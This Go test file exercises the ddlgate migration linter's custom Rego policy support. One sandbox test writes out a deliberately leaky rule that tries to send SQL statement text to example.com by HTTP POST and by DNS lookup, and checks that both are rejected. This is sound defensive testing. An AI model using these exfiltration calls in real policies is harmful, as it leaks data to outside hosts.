package cli

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/open-policy-agent/opa/v1/rego"

	"github.com/ddlgate/ddlgate/internal/report"
)

// examplePolicies is the repository's examples/policies: the README's
// worked examples, tested here as a user would run them.
func examplePolicies(t *testing.T, sub ...string) string {
	t.Helper()
	dir, err := filepath.Abs(filepath.Join(append([]string{"..", "..", "examples", "policies"}, sub...)...))
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// tenantMigration has one table with tenant_id (line 1) and one without
// (line 4).
const tenantMigration = `CREATE TABLE accounts (id bigint PRIMARY KEY, tenant_id bigint NOT NULL);

-- orders forgot its tenant
CREATE TABLE orders (
  id bigint PRIMARY KEY
);
`

func tenantProject(t *testing.T, config string) string {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "migrations", "0001_tables.sql"), []byte(tenantMigration))
	if config != "" {
		writeFile(t, filepath.Join(dir, ".ddlgate.yaml"), []byte(config))
	}
	return dir
}

func TestCustomPolicyReportsAtTheRightLine(t *testing.T) {
	dir := tenantProject(t, "")
	policy := examplePolicies(t, "tenancy")
	const file = "migrations/0001_tables.sql"

	r := ddlgate(t, dir, "", "lint", "--policy", policy, file)
	r.expect(t, 1)
	if !strings.Contains(r.stdout, file+":4:1: error[require-tenant-id] table orders has no tenant_id column") {
		t.Errorf("text output does not report orders at line 4:\n%s", r.stdout)
	}
	if strings.Contains(r.stdout, "table accounts") {
		t.Errorf("accounts has tenant_id but is reported:\n%s", r.stdout)
	}

	r = ddlgate(t, dir, "", "lint", "--format", "json", "--policy", policy, file)
	r.expect(t, 1)
	var tenant []string
	for _, f := range decodeReport(t, r).Findings {
		if f.Rule == "require-tenant-id" {
			tenant = append(tenant, f.File+":"+itoa(f.Line)+":"+itoa(f.Column)+" "+f.Severity+" "+f.Message)
		}
	}
	if want := []string{file + ":4:1 error table orders has no tenant_id column"}; !slices.Equal(tenant, want) {
		t.Errorf("json findings of require-tenant-id = %q, want %q", tenant, want)
	}
}

func TestCustomPolicyInEveryFormat(t *testing.T) {
	dir := tenantProject(t, "")
	policy := examplePolicies(t, "tenancy")
	// Where each format says "line 4"; a format added later must at least
	// name the rule.
	lineMarks := map[string]string{
		"text": ":4:1: error[require-tenant-id]", "github": "line=4,", "gitlab": `"begin": 4`,
		"junit": ":4:1: error[require-tenant-id]", "sarif": `"startLine": 4`,
	}
	for _, format := range report.Names() {
		t.Run(format, func(t *testing.T) {
			r := ddlgate(t, dir, "", "lint", "--format", format, "--policy", policy, "migrations/0001_tables.sql")
			r.expect(t, 1)
			if !strings.Contains(r.stdout, "require-tenant-id") {
				t.Fatalf("%s output does not name require-tenant-id:\n%s", format, r.stdout)
			}
			if mark, ok := lineMarks[format]; ok && !strings.Contains(r.stdout, mark) {
				t.Errorf("%s output lacks %q:\n%s", format, mark, r.stdout)
			}
		})
	}
}

func TestCustomPolicyListedConfiguredAndWaived(t *testing.T) {
	policy := examplePolicies(t, "tenancy")

	r := ddlgate(t, t.TempDir(), "", "rules", "--format", "json", "--policy", policy)
	r.expect(t, 0)
	var rules []ruleJSON
	if err := json.Unmarshal([]byte(r.stdout), &rules); err != nil {
		t.Fatalf("decode rules: %v\n%s", err, r.stdout)
	}
	i := slices.IndexFunc(rules, func(r ruleJSON) bool { return r.ID == "require-tenant-id" })
	if i < 0 {
		t.Fatalf("ddlgate rules does not list require-tenant-id:\n%s", r.stdout)
	}
	if got := rules[i]; got.Category != "tenancy" || got.Severity.String() != "error" || !got.Enabled || !got.Custom || got.Title != "Tables must carry tenant_id" {
		t.Errorf("require-tenant-id listed as %+v", got)
	}

	// Configured from .ddlgate.yaml, policies included.
	dir := tenantProject(t, "policies: ["+policy+"]\nrules:\n  require-tenant-id:\n    severity: warning\n")
	r = ddlgate(t, dir, "", "lint", "--format", "json", "migrations/0001_tables.sql")
	sev := map[string]string{}
	for _, f := range decodeReport(t, r).Findings {
		sev[f.Rule] = f.Severity
	}
	if sev["require-tenant-id"] != "warning" {
		t.Errorf("configured severity not applied: %v", sev)
	}
	dir = tenantProject(t, "policies: ["+policy+"]\nrules:\n  require-tenant-id:\n    enabled: false\n")
	r = ddlgate(t, dir, "", "lint", "--format", "json", "migrations/0001_tables.sql")
	if rules := decodeReport(t, r).rules(); slices.Contains(rules, "require-tenant-id") {
		t.Errorf("disabled rule still reported: %v", rules)
	}

	// Waived like a built-in rule; a waiver without a reason is a finding.
	dir = t.TempDir()
	writeFile(t, filepath.Join(dir, "0001_lookup.sql"), []byte(
		"-- ddlgate:ignore require-tenant-id reason=\"countries are shared by all tenants\"\nCREATE TABLE countries (code text PRIMARY KEY);\n"+
			"-- ddlgate:ignore require-tenant-id\nCREATE TABLE currencies (code text PRIMARY KEY);\n"))
	r = ddlgate(t, dir, "", "lint", "--format", "json", "--policy", policy, "0001_lookup.sql")
	got := decodeReport(t, r).rules()
	if slices.Contains(got, "require-tenant-id") || !slices.Contains(got, "require-waiver-reason") {
		t.Errorf("waivers: findings %v, want require-waiver-reason and no require-tenant-id", got)
	}
}

func TestPolicyTestRunsTheExamples(t *testing.T) {
	dir := examplePolicies(t)
	r := ddlgate(t, t.TempDir(), "", "policy", "test", dir)
	r.expect(t, 0)
	for _, want := range []string{
		`ddlgate.custom.rules.tenancy["require-tenant-id_test"].test_table_without_tenant_id: PASS`,
		`ddlgate.custom.rules.integrity["require-fk-on-delete_test"].test_declared_on_delete_passes: PASS`,
		`ddlgate.custom.rules.privacy["require-pii-column-comment_test"].test_comment_in_the_same_migration_passes: PASS`,
		"require-tenant-id.bad: PASS", "require-pii-column-comment.good: PASS",
		filepath.Join(dir, "tenancy", "require-tenant-id", "rule_test.rego") + ":\n",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("policy test output lacks %q:\n%s", want, r.stdout)
		}
	}
	if strings.Contains(r.stdout, "ddlgate.rules.") {
		t.Errorf("built-in tests ran without --builtin:\n%s", r.stdout)
	}
	if !strings.Contains(r.stdout, "\nPASS: ") || strings.Contains(r.stdout, "FAIL") {
		t.Errorf("want a PASS total and no failure:\n%s", r.stdout)
	}
}

func TestPolicyTestFailures(t *testing.T) {
	dir := t.TempDir()
	copyDir(t, examplePolicies(t, "tenancy"), dir)
	// A test that expects the wrong line, and a good.sql that is not good.
	writeFile(t, filepath.Join(dir, "require-tenant-id", "wrong_test.rego"), []byte(`package ddlgate.custom.rules.tenancy["require-tenant-id_wrong_test"]

import data.ddlgate.custom.rules.tenancy["require-tenant-id"] as rule

test_wrong_line if {
	some f in rule.report with input as ddlgate.parse_sql("CREATE TABLE t (id int);", {})
	f.span.line == 7
}
`))
	writeFile(t, filepath.Join(dir, "require-tenant-id", "good.sql"), []byte("CREATE TABLE t (id int);\n"))
	r := ddlgate(t, t.TempDir(), "", "policy", "test", dir)
	r.expect(t, 1)
	for _, want := range []string{
		`ddlgate.custom.rules.tenancy["require-tenant-id_wrong_test"].test_wrong_line: FAIL`,
		"require-tenant-id.good: FAIL", "want no finding of require-tenant-id, got:\n  line 1: table t has no tenant_id column",
		"require-tenant-id.bad: PASS", "FAIL: 2/",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("policy test output lacks %q:\n%s", want, r.stdout)
		}
	}
}

func TestPolicyTestBuiltin(t *testing.T) {
	r := ddlgate(t, t.TempDir(), "", "policy", "test", "--builtin")
	// The built-in rules' own health is TestRegoPolicies' business: here the
	// exit code only has to agree with the totals.
	if failing := strings.Contains(r.stdout, "\nFAIL: "); r.code != map[bool]int{false: 0, true: 1}[failing] {
		t.Fatalf("exit %d with failures=%v\n%s%s", r.code, failing, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, `ddlgate.rules.safety["ban-drop-table_test"].test_drop_existing_table: PASS`) {
		t.Errorf("--builtin did not run the built-in tests:\n%s", r.stdout)
	}
}

func TestPolicyTestUsage(t *testing.T) {
	r := ddlgate(t, t.TempDir(), "", "policy", "test")
	r.expect(t, 2)
	if !strings.Contains(r.stderr, "no policy directory") {
		t.Errorf("stderr = %q", r.stderr)
	}
	r = ddlgate(t, t.TempDir(), "", "policy", "test", "missing")
	r.expect(t, 2)
	if !strings.Contains(r.stderr, "policy directory missing") {
		t.Errorf("stderr = %q", r.stderr)
	}
	// Config policies are the default directories.
	dir := tenantProject(t, "policies: ["+examplePolicies(t, "tenancy")+"]\n")
	r = ddlgate(t, dir, "", "policy", "test")
	r.expect(t, 0)
	if !strings.Contains(r.stdout, "test_table_without_tenant_id: PASS") {
		t.Errorf("config policies not tested:\n%s", r.stdout)
	}
}

func TestPolicyNewScaffoldsAPassingRule(t *testing.T) {
	dir := t.TempDir()
	r := ddlgate(t, dir, "", "policy", "new", "storage/ban-unlogged-table", "--dir", "security")
	r.expect(t, 0)
	ruleDir := filepath.Join(dir, "security", "storage", "ban-unlogged-table")
	for _, name := range []string{"rule.rego", "rule_test.rego", "bad.sql", "good.sql"} {
		if _, err := os.Stat(filepath.Join(ruleDir, name)); err != nil {
			t.Errorf("scaffold: %v", err)
		}
	}
	r = ddlgate(t, dir, "", "policy", "test", "security")
	r.expect(t, 0)
	if !strings.Contains(r.stdout, "PASS: 4/4") {
		t.Errorf("scaffold tests: want 2 Rego tests and 2 examples passing:\n%s", r.stdout)
	}
	r = ddlgate(t, dir, "", "lint", "--policy", "security", "security/storage/ban-unlogged-table/bad.sql")
	r.expect(t, 1)
	if !strings.Contains(r.stdout, "bad.sql:2:1: error[ban-unlogged-table]") {
		t.Errorf("the scaffolded rule does not report bad.sql:\n%s", r.stdout)
	}

	for _, tc := range []struct{ args, stderr string }{
		{"storage/ban-unlogged-table --dir security", "already exists"},
		{"safety/ban-drop-table", "taken by the built-in rule"},
		{"Storage/Unlogged", "want CATEGORY/RULE-ID"},
		{"unlogged", "want CATEGORY/RULE-ID"},
	} {
		r := ddlgate(t, dir, "", append([]string{"policy", "new"}, strings.Fields(tc.args)...)...)
		r.expect(t, 2)
		if !strings.Contains(r.stderr, tc.stderr) {
			t.Errorf("policy new %s: stderr %q lacks %q", tc.args, r.stderr, tc.stderr)
		}
	}
}

// brokenPolicy is a rule whose report body is replaced by body.
func brokenPolicy(t *testing.T, body string) string {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "exfil", "leak", "rule.rego"), []byte(`# METADATA
# title: Leaky rule
# description: Tries to get out of the sandbox.
# custom:
#   severity: error
package ddlgate.custom.rules.exfil["leak"]

import data.ddlgate.lib.result

report contains finding if {
	some stmt in input.statements
	`+body+`
	finding := result.fail(rego.metadata.chain(), stmt, stmt.span, "x")
}
`))
	return dir
}

func TestUnsafeOrMistypedPoliciesAreRejected(t *testing.T) {
	for _, tc := range []struct {
		name, body string
		stderr     []string
	}{
		{"http.send", `http.send({"method": "POST", "url": "https://example.com", "raw_body": stmt.text})`,
			[]string{"rule.rego:12:", "http.send is not allowed", "sandboxed"}},
		{"net.lookup_ip_addr", `net.lookup_ip_addr(concat(".", [stmt.text, "example.com"]))`,
			[]string{"rule.rego:12:", "net.lookup_ip_addr is not allowed", "sandboxed"}},
		{"schema typo", `some x in input.statments`,
			[]string{"rule.rego:12:", "undefined ref: input.statments", `have: "statments"`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pol := brokenPolicy(t, tc.body)
			dir := tenantProject(t, "")
			for _, args := range [][]string{
				{"lint", "--policy", pol, "migrations"},
				{"policy", "test", pol},
			} {
				r := ddlgate(t, dir, "", args...)
				r.expect(t, 2)
				for _, want := range tc.stderr {
					if !strings.Contains(r.stderr, want) {
						t.Errorf("%s: stderr lacks %q:\n%s", args[0], want, r.stderr)
					}
				}
				if !strings.Contains(r.stderr, filepath.Join(pol, "exfil", "leak", "rule.rego")) {
					t.Errorf("%s: stderr does not name the file:\n%s", args[0], r.stderr)
				}
			}
		})
	}
}

func TestCustomRuleCannotTakeABuiltinID(t *testing.T) {
	dir := t.TempDir()
	copyDir(t, examplePolicies(t, "tenancy"), dir)
	path := filepath.Join(dir, "require-tenant-id", "rule.rego")
	src, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, path, []byte(strings.Replace(string(src), `tenancy["require-tenant-id"]`, `tenancy["ban-drop-table"]`, 1)))
	r := ddlgate(t, tenantProject(t, ""), "", "lint", "--policy", dir, "migrations")
	r.expect(t, 2)
	if !strings.Contains(r.stderr, "rule id ban-drop-table collides with the built-in rule") || !strings.Contains(r.stderr, path) {
		t.Errorf("stderr = %q", r.stderr)
	}
}

// TestFactsSchemaIsPublished keeps docs/facts.schema.json equal to
// `ddlgate facts --schema` (refresh: go test ./internal/cli -run
// TestFactsSchemaIsPublished -update, or make docs), and checks that real
// facts documents validate against it.
func TestFactsSchemaIsPublished(t *testing.T) {
	r := ddlgate(t, t.TempDir(), "", "facts", "--schema")
	r.expect(t, 0)
	published := filepath.Join("..", "..", "docs", "facts.schema.json")
	if *update {
		writeFile(t, published, []byte(r.stdout))
	}
	want, err := os.ReadFile(published)
	if err != nil {
		t.Fatalf("read published schema (go test ./internal/cli -run TestFactsSchemaIsPublished -update): %v", err)
	}
	if string(want) != r.stdout {
		t.Errorf("docs/facts.schema.json is stale: run make docs (or go test ./internal/cli -run TestFactsSchemaIsPublished -update)")
	}
	var schema map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &schema); err != nil {
		t.Fatal(err)
	}

	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "0001.sql"), []byte(tenantMigration+`
ALTER TABLE orders ADD COLUMN customer_id bigint REFERENCES customers (id) ON DELETE CASCADE;
COMMENT ON COLUMN orders.customer_id IS 'who ordered';
CREATE INDEX CONCURRENTLY orders_customer_idx ON orders (customer_id);
-- ddlgate:ignore ban-drop-column reason="replaced by customer_id"
ALTER TABLE orders DROP COLUMN legacy;
`))
	r = ddlgate(t, dir, "", "facts", "0001.sql")
	r.expect(t, 0)
	var doc any
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
		t.Fatal(err)
	}
	rs, err := rego.New(rego.Query("json.match_schema(input.doc, input.schema)"),
		rego.Input(map[string]any{"doc": doc, "schema": schema})).Eval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	res := rs[0].Expressions[0].Value.([]any)
	if res[0] != true {
		t.Errorf("facts do not validate against the published schema: %v", res[1])
	}
}

func TestFactsSchemaTakesNoFile(t *testing.T) {
	r := ddlgate(t, t.TempDir(), "", "facts", "--schema", "x.sql")
	r.expect(t, 2)
}

func copyDir(t *testing.T, from, to string) {
	t.Helper()
	if err := os.CopyFS(to, os.DirFS(from)); err != nil {
		t.Fatal(err)
	}
}

func itoa(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}

// factsExampleMarker precedes the example document of docs/facts.md.
const factsExampleMarker = "<!-- facts example: generated by TestFactsDocExample -->\n```json\n"

// TestFactsDocExample keeps the example of docs/facts.md equal to what
// `ddlgate facts` prints for it (refresh: go test ./internal/cli -run
// TestFactsDocExample -update).
func TestFactsDocExample(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "migrations", "0001_orders.sql"), []byte("CREATE TABLE orders (id bigint PRIMARY KEY, total numeric(10, 2) NOT NULL);\n"))
	writeFile(t, filepath.Join(dir, "migrations", "0002_orders_email.sql"), []byte("ALTER TABLE orders ADD COLUMN customer_email text;\n"))
	r := ddlgate(t, dir, "", "facts", "--history", "migrations", "migrations/0002_orders_email.sql")
	r.expect(t, 0)
	page := filepath.Join("..", "..", "docs", "facts.md")
	doc, err := os.ReadFile(page)
	if err != nil {
		t.Fatal(err)
	}
	start := strings.Index(string(doc), factsExampleMarker)
	if start < 0 {
		t.Fatalf("%s has no %q", page, factsExampleMarker)
	}
	start += len(factsExampleMarker)
	end := strings.Index(string(doc[start:]), "```\n")
	if end < 0 {
		t.Fatalf("%s: the example block does not end", page)
	}
	if *update {
		doc = []byte(string(doc[:start]) + r.stdout + string(doc[start+end:]))
		writeFile(t, page, doc)
		end = len(r.stdout)
	}
	if got := string(doc[start : start+end]); got != r.stdout {
		t.Errorf("the example of docs/facts.md is stale: run go test ./internal/cli -run TestFactsDocExample -update")
	}
}
